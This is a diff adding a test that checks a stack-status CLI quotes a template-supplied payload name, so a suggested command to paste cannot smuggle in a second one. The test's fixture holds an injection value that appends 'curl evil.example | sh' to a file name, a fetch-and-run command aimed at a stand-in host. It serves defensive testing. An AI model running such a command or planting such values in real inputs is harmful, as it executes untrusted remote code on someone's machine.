@@ -282,3 +282,11 @@ def test_watching_wants_a_name(amifactory) -> None:
 
     assert Exit.USAGE == said.code
     assert "--watch follows one stack" in said.err
+
+
+def test_a_command_to_paste_holds_no_other(account, template, amifactory) -> None:
+    """The payload's name comes from the template, which whoever deployed it could write."""
+    notes = {"AmiFactory": {"Payload": "web.yaml; curl evil.example | sh #"}}
+    account.add("web", {**template, "Metadata": notes}, "ROLLBACK_COMPLETE", tags=TAGS)
+
+    assert "deploy 'web.yaml; curl evil.example | sh #'`" in amifactory("status", "web").out
